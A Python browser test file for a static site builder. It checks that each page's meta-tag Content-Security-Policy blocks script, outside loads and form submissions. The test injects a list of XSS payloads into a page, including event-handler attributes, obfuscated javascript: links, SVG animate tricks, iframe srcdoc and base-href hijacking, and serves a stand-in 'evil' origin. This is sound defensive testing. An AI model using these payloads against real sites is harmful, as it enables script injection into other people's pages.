"""The built site served WITHOUT `_headers`, as GitHub Pages serves it: the Content-Security-Policy each page
carries as a <meta> element is enforced all the same. A page carrying each form the sanitizer refuses
(made directly, as if the builder's check had let it through) runs no script, loads nothing from
elsewhere and sends nothing away; the real pages run no script but the site's own."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from site_builder.engine.render.templates import security_policy
from tests.helpers import serve_folder

from .conftest import SitePage, pages_of

pytestmark = pytest.mark.browser

# Runs before any page script, outside the page's policy: what the policy blocks, and whether script ran.
WATCH = """
window.__blocked = [];
document.addEventListener("securitypolicyviolation", (e) => window.__blocked.push(e.effectiveDirective));
"""
PAYLOAD = "window.__pwned=1"


def hostile(evil: str) -> dict[str, tuple[str, str | None]]:
    """name -> (markup, the id of an element to click to set it off, if any); `evil` is another origin."""
    return {
        "inline script": (f"<script>{PAYLOAD}</script>", None),
        "script from another site": (f'<script src="{evil}pwn.js"></script>', None),
        "event attribute on an img": (f'<img src="no-such.png" alt="" onerror="{PAYLOAD}">', None),
        "event attribute after a slash": (f"<svg/onload={PAYLOAD}>", None),
        "> in a quoted attribute, then an event": (
            f'<details open title="a>b" ontoggle="{PAYLOAD}"><summary>x</summary></details>',
            None,
        ),
        "entity-encoded javascript: link": (f'<a id="go" href="&#106;avascript:{PAYLOAD}">x</a>', "go"),
        "a tab entity and &colon; in the scheme": (f'<a id="go" href="jav&#x09;ascript&colon;{PAYLOAD}">x</a>', "go"),
        "newline inside the scheme": (f'<a id="go" href="java\nscript:{PAYLOAD}">x</a>', "go"),
        "xlink:href": (
            f'<svg width="100" height="40"><a id="go" xlink:href="javascript:{PAYLOAD}">'
            '<rect width="100" height="40"></rect></a></svg>',
            "go",
        ),
        "SVG animate values": (
            f'<svg width="100" height="40"><a id="go"><animate attributeName="href" values="javascript:{PAYLOAD}"/>'
            '<rect width="100" height="40"></rect></a></svg>',
            "go",
        ),
        "iframe srcdoc": ('<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>', None),
        "iframe from another site": (f'<iframe src="{evil}frame.html"></iframe>', None),
        "object": (f'<object data="{evil}frame.html"></object>', None),
        "embed": (f'<embed src="{evil}frame.html">', None),
        "style element": ("<style>body { background: red }</style>", None),
        "outside stylesheet": (f'<link rel="stylesheet" href="{evil}pwn.css">', None),
        "base href": (f'<base href="{evil}">', None),
        "form to another site": (
            f'<form action="{evil}collect" method="get"><input name="q" value="x">'
            '<button id="go" type="submit">Send</button></form>',
            "go",
        ),
    }


@pytest.fixture(scope="module")
def served(built_site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str, str]]:
    """A copy of the built site without `_headers`, and another origin serving a script that would say it ran."""
    folder = tmp_path_factory.mktemp("no-headers") / "public"
    shutil.copytree(built_site, folder)
    (folder / "_headers").unlink()
    evil_folder = tmp_path_factory.mktemp("evil")
    (evil_folder / "pwn.js").write_text(f"{PAYLOAD};\n")
    (evil_folder / "pwn.css").write_text("body { background: red }\n")
    (evil_folder / "frame.html").write_text("<script>parent.__pwned=1</script>\n")
    site, url = serve_folder(folder)
    evil, evil_url = serve_folder(evil_folder)
    yield folder, url, evil_url
    for server in (site, evil):
        server.shutdown()
        server.server_close()


def test_every_page_carries_the_policy_of_headers_that_a_meta_element_can_hold(built_site: Path) -> None:
    wanted = f'<meta http-equiv="Content-Security-Policy" content="{security_policy(meta=True)}">'
    header = re.search(r"Content-Security-Policy: (.*)", (built_site / "_headers").read_text())
    assert header and header.group(1) == security_policy()
    assert "frame-ancestors" not in wanted and "default-src 'none'" in wanted
    for page in pages_of(built_site):
        head = page.file.read_text().split("</head>")[0]
        assert wanted in head, page
        # Before anything the policy governs: a policy in <meta> covers only what comes after it.
        assert head.index(wanted) < min(head.find(t) % len(head) for t in ("<script", "<link", "<style")), page


@pytest.mark.parametrize("name", list(hostile("x")))
def test_each_refused_form_is_blocked_by_the_pages_own_policy(
    browser: Browser, served: tuple[Path, str, str], name: str
) -> None:
    folder, url, evil = served
    markup, trigger = hostile(evil)[name]
    page = (folder / "en" / "about" / "index.html").read_text()
    assert "<main" in page
    target = folder / "hostile" / "index.html"
    target.parent.mkdir(exist_ok=True)
    target.write_text(re.sub(r"(<main[^>]*>)", lambda m: m.group(1) + markup, page, count=1))
    context = browser.new_context()
    context.add_init_script(script=WATCH)
    asked: list[str] = []
    context.on("response", lambda response: asked.append(response.url))  # a blocked request gets none
    console: list[str] = []
    tab = context.new_page()
    tab.on("console", lambda message: console.append(message.text))
    try:
        tab.goto(url + "hostile/", wait_until="load")
        if trigger:
            tab.click(f"#{trigger}", timeout=2000, force=True, no_wait_after=True)
        tab.wait_for_timeout(400)
        assert tab.evaluate("window.__pwned") is None, f"{name}: script ran"
        blocked = tab.evaluate("window.__blocked")
        said = [text for text in console if "Content Security Policy" in text]
        assert blocked or said, f"{name}: the policy saw nothing to block"
        evil_host = urlsplit(evil).netloc
        reached = [u for u in asked if urlsplit(u).netloc == evil_host]
        assert reached == [], f"{name}: asked another site for {reached}"
        assert tab.evaluate("document.baseURI").startswith(url), name
        assert tab.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)", name
    finally:
        context.close()


def test_the_real_site_runs_no_script_but_its_own(browser: Browser, served: tuple[Path, str, str]) -> None:
    folder, url, _evil = served
    origin = urlsplit(url).netloc
    context = browser.new_context()
    context.add_init_script(script=WATCH)
    scripts: list[str] = []
    context.on("request", lambda r: scripts.append(r.url) if r.resource_type == "script" else None)
    tab = context.new_page()
    problems: list[str] = []
    pages: list[SitePage] = [p for p in pages_of(folder) if not p.path.startswith("hostile/")]
    try:
        for site_page in pages:
            tab.goto(url + site_page.path, wait_until="load")
            tab.wait_for_timeout(50)
            if blocked := tab.evaluate("window.__blocked"):
                problems.append(f"{site_page}: the policy blocked {blocked}")
            inline = tab.evaluate(
                "[...document.scripts].filter((s) => !s.src && !/json/.test(s.type)).map((s) => s.textContent)"
            )
            if inline:
                problems.append(f"{site_page}: inline script {inline[0][:60]!r}")
    finally:
        context.close()
    problems += [f"a script from elsewhere: {s}" for s in scripts if urlsplit(s).netloc != origin]
    problems += [f"a script outside assets/: {s}" for s in scripts if "/assets/" not in s]
    assert scripts, "no page loaded the site's own scripts: the test saw nothing"
    assert problems == [], problems
